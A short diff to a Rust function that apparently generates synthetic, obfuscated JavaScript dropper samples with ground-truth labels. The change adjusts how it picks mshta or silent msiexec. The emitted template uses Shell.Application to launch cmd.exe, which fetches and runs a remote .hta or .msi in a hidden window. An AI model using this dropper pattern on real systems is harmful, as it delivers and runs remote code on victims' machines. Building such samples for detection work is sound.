@@ -315,7 +315,7 @@ pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
         _ => {
             let url = truth.url(dice, &[".hta", ".msi"]);
             let word = hide(dice, &url, &mut before);
-            let program = if url.ends_with(".hta") { "mshta " } else { "msiexec /qn /i " };
+            let program = if url.contains(".hta") { "mshta " } else { "msiexec /qn /i " };
             format!(
                 "{junk}{before}new ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c {program}' + {word}, '', 'open', 0);\n"
             )
